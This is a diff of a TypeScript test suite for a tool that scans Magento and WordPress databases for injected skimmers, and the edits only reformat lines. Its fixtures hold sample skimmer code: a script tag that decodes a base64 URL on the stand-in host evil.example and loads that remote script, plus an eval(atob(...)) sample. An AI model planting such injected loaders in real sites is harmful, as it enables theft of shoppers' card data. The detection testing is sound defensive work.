@@ -18,7 +18,8 @@ import { pgAdminUrl, pgSkip } from '../../helpers/db.ts';
 
 const mysqlUrl = process.env['RIPCORD_TEST_MYSQL'] ?? 'mysql://root@127.0.0.1:3306/';
 const rules = loadCodeRules();
-const skimmer = '<script>var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvai5qcw==");document.head.appendChild(s);</script>';
+const skimmer =
+  '<script>var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvai5qcw==");document.head.appendChild(s);</script>';
 
 async function mysqlSkip(): Promise<{ skip?: string }> {
   try {
@@ -50,7 +51,8 @@ test('scan-db finds a skimmer in Magento core_config_data and cms_block on Maria
     ]);
     // Enough clean blocks to need several batches, one injected among them.
     const blocks: string[] = [];
-    for (let i = 0; i < 25; i++) blocks.push(i === 17 ? `<div class="promo">Sale</div>${skimmer}` : `<div class="promo">Block ${i}</div>`);
+    for (let i = 0; i < 25; i++)
+      blocks.push(i === 17 ? `<div class="promo">Sale</div>${skimmer}` : `<div class="promo">Block ${i}</div>`);
     await admin.query(`INSERT INTO ${name}.cms_block (content) VALUES ${blocks.map(() => '(?)').join(',')}`, blocks);
     const db = await MysqlShopDb.open(`${mysqlUrl.replace(/\/$/, '')}/${name}`);
     try {
@@ -58,7 +60,10 @@ test('scan-db finds a skimmer in Magento core_config_data and cms_block on Maria
       const r = await scanDatabase(db, tablesToScan(cfg, 'custom'), rules, { batchSize: 10, maxBytes: 1 << 20 });
       assert.equal(r.tables, 3);
       assert.equal(r.cells, 28);
-      assert.deepEqual(r.findings.map((f) => `${f.path} ${f.rule}`).sort(), ['cms_block.content#18 js-src-from-base64', 'core_config_data.value#2 html-script-lookalike-host']);
+      assert.deepEqual(r.findings.map((f) => `${f.path} ${f.rule}`).sort(), [
+        'cms_block.content#18 js-src-from-base64',
+        'core_config_data.value#2 html-script-lookalike-host',
+      ]);
     } finally {
       await db.close();
     }
@@ -80,14 +85,24 @@ test('scan-db finds a skimmer in WordPress wp_posts on PostgreSQL', await pgSkip
     await c.connect();
     await c.query(`CREATE TABLE wp_options (option_id BIGINT PRIMARY KEY, option_name TEXT, option_value TEXT);
       CREATE TABLE wp_posts ("ID" BIGINT PRIMARY KEY, post_content TEXT);`);
-    await c.query(`INSERT INTO wp_options VALUES (1, 'blogname', 'Shop'), (2, 'widget_text', 'a:1:{i:2;a:1:{s:4:"text";s:5:"Hello";}}')`);
-    await c.query(`INSERT INTO wp_posts VALUES (10, '<p>Welcome</p>'), (11, $1), (12, '<p>About us</p>')`, [`<p>Checkout</p><script>eval(atob('dmFyIHg9MQ=='))</script>`]);
+    await c.query(
+      `INSERT INTO wp_options VALUES (1, 'blogname', 'Shop'), (2, 'widget_text', 'a:1:{i:2;a:1:{s:4:"text";s:5:"Hello";}}')`,
+    );
+    await c.query(`INSERT INTO wp_posts VALUES (10, '<p>Welcome</p>'), (11, $1), (12, '<p>About us</p>')`, [
+      `<p>Checkout</p><script>eval(atob('dmFyIHg9MQ=='))</script>`,
+    ]);
     await c.end();
     const db = await PostgresShopDb.open(url.toString());
     try {
-      const r = await scanDatabase(db, tablesToScan(scanDbSchema.parse({ preset: 'wordpress' }), 'custom'), rules, { batchSize: 2, maxBytes: 1 << 20 });
+      const r = await scanDatabase(db, tablesToScan(scanDbSchema.parse({ preset: 'wordpress' }), 'custom'), rules, {
+        batchSize: 2,
+        maxBytes: 1 << 20,
+      });
       assert.equal(r.tables, 2);
-      assert.deepEqual(r.findings.map((f) => `${f.path} ${f.rule}`), ['wp_posts.post_content#11 js-eval-atob']);
+      assert.deepEqual(
+        r.findings.map((f) => `${f.path} ${f.rule}`),
+        ['wp_posts.post_content#11 js-eval-atob'],
+      );
     } finally {
       await db.close();
     }
